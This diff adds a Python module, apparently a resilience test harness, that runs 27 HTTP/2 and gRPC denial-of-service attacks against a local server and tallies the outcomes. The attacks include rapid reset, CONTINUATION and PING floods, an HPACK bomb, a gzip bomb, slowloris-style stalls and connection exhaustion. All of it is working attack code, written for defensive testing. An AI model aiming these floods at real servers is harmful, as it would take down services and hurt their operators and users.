@@ -1,0 +1,311 @@
+"""Attacks on a gRPC server, each a function that goes on until the clock says stop.
+
+An attack gets a `Siege` and returns nothing; what the server did is counted there. Bytes are made
+ahead of time, so that an attacker costs itself as little as it can.
+"""
+
+import contextlib
+import gzip
+import selectors
+import socket
+import struct
+import time
+
+from hostile import *  # noqa: F403: frames by name
+
+CHUNK = 256 << 10
+
+
+class Siege:
+    """Where to attack, until when, and what came of it."""
+
+    def __init__(self, port, tls_port, seconds):
+        self.port, self.tls_port = port, tls_port
+        self.end = time.monotonic() + seconds
+        self.counts = {}
+
+    @property
+    def goes_on(self):
+        return time.monotonic() < self.end
+
+    def count(self, what, number=1):
+        self.counts[what] = self.counts.get(what, 0) + number
+
+    def connect(self):
+        for _ in range(100):
+            try:
+                return socket.create_connection(("127.0.0.1", self.port), timeout=2)
+            except OSError:
+                self.count("refused")
+                time.sleep(0.01)
+        raise SystemExit("the server takes no connections any more")
+
+    def greeted(self, *pairs):
+        connection = self.connect()
+        connection.sendall(PREFACE + settings(*pairs) + settings(flags=ACK))
+        return connection
+
+    def flood(self, opening, chunk, reads=True):
+        """One connection after the other: the opening, then the chunk again and again."""
+        while self.goes_on:
+            with contextlib.closing(self.greeted()) as connection:
+                self.count("connections")
+                try:
+                    connection.sendall(opening)
+                    while self.goes_on:
+                        # At most the time that is left: a server may stop reading.
+                        connection.settimeout(max(0.01, min(1, self.end - time.monotonic())))
+                        connection.sendall(chunk)
+                        if reads:
+                            self.take(connection)
+                except TimeoutError:
+                    self.count("stopped reading")
+                except OSError:
+                    self.count("cut off")
+
+    def take(self, connection):
+        """Reads what is there."""
+        connection.setblocking(False)
+        try:
+            while connection.recv(1 << 16):
+                pass
+            raise ConnectionResetError
+        except BlockingIOError:
+            pass
+        finally:
+            connection.setblocking(True)
+
+    def hold(self, connections, each=None, pause=0.05):
+        """Keeps connections, opening anew those that were closed; `each` may do something."""
+        held = []
+        watch = selectors.DefaultSelector()
+        while self.goes_on:
+            while len(held) < connections and self.goes_on:
+                connection = self.connect()
+                held.append(connection)
+                watch.register(connection, selectors.EVENT_READ)
+                self.count("connections")
+                if each:
+                    each(connection, True)
+            for key, _ in watch.select(0):
+                with contextlib.suppress(OSError):
+                    if key.fileobj.recv(1 << 16):
+                        continue
+                self.count("cut off")
+                watch.unregister(key.fileobj)
+                held.remove(key.fileobj)
+                key.fileobj.close()
+            if each:
+                for connection in held:
+                    with contextlib.suppress(OSError):
+                        each(connection, False)
+            time.sleep(pause)
+        for connection in held:
+            connection.close()
+
+
+def _repeated(one):
+    return one * (CHUNK // len(one))
+
+
+def _streams(build, count=20_000):
+    """A flood of frames with rising stream identifiers; it starts over on a new connection."""
+
+    def attack(siege):
+        chunks, size = [], 500
+        for first in range(0, count, size):
+            chunks.append(b"".join(build(2 * i + 1) for i in range(first, first + size)))
+        while siege.goes_on:
+            with contextlib.closing(siege.greeted()) as connection:
+                siege.count("connections")
+                try:
+                    for chunk in chunks:
+                        connection.settimeout(max(0.01, min(1, siege.end - time.monotonic())))
+                        connection.sendall(chunk)
+                        siege.take(connection)
+                except TimeoutError:
+                    siege.count("stopped reading")
+                except OSError:
+                    siege.count("cut off")
+
+    return attack
+
+
+_CALL = block(request("FullDuplexCall"))
+_HEAD = frame(HEADERS, END_HEADERS, 1, _CALL)
+
+
+def _head(stream, fields=_CALL, flags=END_HEADERS):
+    return frame(HEADERS, flags, stream, fields)
+
+
+def settings_flood(siege):
+    siege.flood(b"", _repeated(settings((WINDOW_SIZE, 65_535))))
+
+
+def settings_table_flood(siege):
+    one = settings(*[(TABLE_SIZE, 0 if i % 2 else 4096) for i in range(30)])
+    siege.flood(b"", _repeated(one))
+
+
+def ping_flood(siege):
+    siege.flood(b"", _repeated(frame(PING, 0, 0, bytes(8))))
+
+
+def unread_ping_flood(siege):
+    siege.flood(b"", _repeated(frame(PING, 0, 0, bytes(8))), reads=False)
+
+
+def empty_data(siege):
+    siege.flood(_HEAD, _repeated(frame(DATA, 0, 1)))
+
+
+def padded_data(siege):
+    siege.flood(_HEAD, _repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255))))
+
+
+def priority_flood(siege):
+    siege.flood(b"", _repeated(frame(PRIORITY, 0, 7, struct.pack(">IB", 3, 1))))
+
+
+def window_update_flood(siege):
+    siege.flood(_HEAD, _repeated(window_update(1, 1)))
+
+
+def unknown_frames(siege):
+    siege.flood(b"", _repeated(frame(0x77, 0, 0, b"x")))
+
+
+rapid_reset = _streams(lambda stream: _head(stream) + rst(stream))
+half_requests = _streams(lambda stream: _head(stream), 2_000)
+provoked_resets = _streams(lambda stream: _head(stream) + window_update(stream, 0))
+malformed_heads = _streams(lambda stream: _head(stream, block([(":method", "GET")])))
+refused_calls = _streams(
+    lambda stream: _head(stream, block(request("Nothing")), END_HEADERS | END_STREAM)
+)
+
+
+def continuation_flood(siege):
+    siege.flood(
+        frame(HEADERS, 0, 1, _CALL), _repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"))
+    )
+
+
+def empty_continuations(siege):
+    siege.flood(frame(HEADERS, 0, 1, _CALL), _repeated(frame(CONTINUATION, 0, 1)))
+
+
+def hpack_bomb(siege):
+    """A field of 4 kB in the table, then a byte for each time it is named."""
+    fill = frame(HEADERS, END_HEADERS, 1, _CALL + b"\x40\x01a" + integer(4000, 7) + b"x" * 4000)
+    siege.flood(fill, b"".join(_head(2 * i + 3, b"\xbe" * 16_000) for i in range(16)))
+
+
+header_lists = _streams(
+    lambda stream: _head(stream, _CALL + literal("x", "y" * 14_000), END_HEADERS | END_STREAM),
+    4_000,
+)
+
+
+def gzip_bomb(siege):
+    """3 kB that unpack to 3 MB, just below the limit of a message, and some above it."""
+    small, large = (gzip.compress(bytes(size << 20), 9) for size in (3, 64))
+    fields = block(request("UnaryCall", grpc_encoding="gzip"))
+    calls = _streams(
+        lambda stream: _head(stream, fields)
+        + b"".join(
+            frame(DATA, 0, stream, message(bomb, 1)[i : i + 16_384])
+            for bomb in (small if stream % 4 == 1 else large,)
+            for i in range(0, len(bomb) + 5, 16_384)
+        )
+        + frame(DATA, END_STREAM, stream),
+        1_000,
+    )
+    calls(siege)
+
+
+def slow_preface(siege):
+    def each(connection, is_new):
+        if is_new:
+            connection.sendall(PREFACE[:10])
+
+    siege.hold(300, each)
+
+
+def slow_headers(siege):
+    def each(connection, is_new):
+        if is_new:
+            connection.sendall(PREFACE + settings() + settings(flags=ACK) + _HEAD[:20])
+        else:
+            connection.sendall(_CALL[:1])
+
+    siege.hold(300, each, 0.5)
+
+
+def slow_tls(siege):
+    siege.port = siege.tls_port
+    siege.hold(300, lambda c, is_new: c.sendall(b"\x16\x03\x01\x02\x00\x01") if is_new else None)
+
+
+def tls_handshakes(siege):
+    context = client_context()
+    siege.port = siege.tls_port
+    while siege.goes_on:
+        with contextlib.suppress(OSError), context.wrap_socket(siege.connect()):
+            siege.count("connections")
+
+
+def zero_window(siege):
+    """Calls whose answers of 1 MB may not be sent."""
+    call = block(request("UnaryCall"))
+    body = message(b"\x10\x80\x80\x40")
+    calls = b"".join(
+        _head(2 * i + 1, call) + frame(DATA, END_STREAM, 2 * i + 1, body) for i in range(250)
+    )
+
+    def each(connection, is_new):
+        if is_new:
+            connection.sendall(PREFACE + settings((WINDOW_SIZE, 0)) + settings(flags=ACK) + calls)
+
+    siege.hold(2, each)
+
+
+def never_reading(siege):
+    """Answers without end, an open window, and no read."""
+    call = block(request("StreamingOutputCall"))
+    body = message(b"\x12\x04\x08\x80\x80\x04" * 2_000)
+    greeting = PREFACE + settings((WINDOW_SIZE, 0x7FFFFFFF)) + settings(flags=ACK)
+    calls = window_update(0, 0x7FFF0000 - 65_535) + b"".join(
+        _head(2 * i + 1, call) + frame(DATA, END_STREAM, 2 * i + 1, body) for i in range(50)
+    )
+    held = []
+    while siege.goes_on:
+        if len(held) < 20:
+            connection = siege.connect()
+            connection.sendall(greeting + calls)
+            held.append(connection)
+            siege.count("connections")
+        time.sleep(0.01)
+
+
+def idle_connections(siege):
+    def each(connection, is_new):
+        if is_new:
+            connection.sendall(PREFACE + settings() + settings(flags=ACK))
+
+    siege.hold(2_000, each, 0.2)
+
+
+def reconnections(siege):
+    while siege.goes_on:
+        with contextlib.suppress(OSError), contextlib.closing(siege.greeted()):
+            siege.count("connections")
+
+
+ATTACKS = [
+    settings_flood, settings_table_flood, ping_flood, unread_ping_flood, empty_data, padded_data,
+    priority_flood, window_update_flood, unknown_frames, rapid_reset, half_requests,
+    provoked_resets, malformed_heads, refused_calls, continuation_flood, empty_continuations,
+    hpack_bomb, header_lists, gzip_bomb, slow_preface, slow_headers, slow_tls, tls_handshakes,
+    zero_window, never_reading, idle_connections, reconnections,
+]  # fmt: skip
